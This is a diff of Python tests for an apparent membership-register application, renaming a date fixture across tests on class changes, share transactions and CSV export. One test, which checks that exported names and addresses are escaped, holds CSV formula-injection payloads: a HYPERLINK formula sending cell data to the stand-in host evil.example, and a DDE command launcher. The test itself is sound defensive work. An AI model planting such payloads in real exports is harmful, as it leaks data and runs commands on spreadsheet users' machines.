@@ -168,7 +168,7 @@ def test_participation_needs_admission_a_paid_share_and_no_cessation(member, sta
 TODAY = datetime.date(2026, 11, 23)
 
 
-@pytest.mark.usefixtures("on_23_november_2026")
+@pytest.mark.usefixtures("now")
 def test_a_child_cannot_become_a_worker_by_a_change_of_class(documents, staff):
     child = admitted(staff, datetime.date(2016, 5, 1))
 
@@ -180,7 +180,7 @@ def test_a_child_cannot_become_a_worker_by_a_change_of_class(documents, staff):
     assert child.member_class == "receiver"
 
 
-@pytest.mark.usefixtures("on_23_november_2026")
+@pytest.mark.usefixtures("now")
 def test_an_adult_may_move_to_the_worker_class(documents, staff):
     adult = admitted(staff, datetime.date(1980, 5, 1))
 
@@ -190,7 +190,7 @@ def test_an_adult_may_move_to_the_worker_class(documents, staff):
     assert adult.member_class == "worker"
 
 
-@pytest.mark.usefixtures("on_23_november_2026")
+@pytest.mark.usefixtures("now")
 def test_moving_to_the_investor_class_needs_an_investors_holding(member, staff):
     with pytest.raises(ApplicationError) as refused:
         services.membership_change_class(membership=member, member_class="investor", by=staff, reason="x")
@@ -198,7 +198,7 @@ def test_moving_to_the_investor_class_needs_an_investors_holding(member, staff):
     assert refused.value.code == "investment_out_of_bounds"
 
 
-@pytest.mark.usefixtures("on_23_november_2026")
+@pytest.mark.usefixtures("now")
 def test_a_membership_cannot_be_ended_in_advance(member, staff):
     with pytest.raises(ApplicationError) as refused:
         services.membership_cease(
@@ -213,7 +213,7 @@ def test_a_membership_cannot_be_ended_in_advance(member, staff):
     assert member.is_current
 
 
-@pytest.mark.usefixtures("on_23_november_2026")
+@pytest.mark.usefixtures("now")
 @pytest.mark.parametrize(
     ("day", "code"),
     [(datetime.date(2099, 1, 1), "date_in_future"), (datetime.date(2020, 1, 1), "date_before_admission")],
@@ -225,7 +225,7 @@ def test_share_transactions_are_dated_within_the_membership(member, staff, day, 
     assert refused.value.code == code
 
 
-@pytest.mark.usefixtures("on_23_november_2026")
+@pytest.mark.usefixtures("now")
 def test_the_register_csv_cannot_run_formulas_in_a_spreadsheet(client, staff):
     MembershipFactory(
         legal_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', address="+cmd|' /C calc'!A0"
@@ -240,7 +240,7 @@ def test_the_register_csv_cannot_run_formulas_in_a_spreadsheet(client, staff):
     assert rows[1][2].startswith("'+cmd")
 
 
-@pytest.mark.usefixtures("on_23_november_2026")
+@pytest.mark.usefixtures("now")
 def test_staff_correct_a_name_and_address_with_the_reason_in_the_history(member, staff):
     services.membership_update_details(
         membership=member,
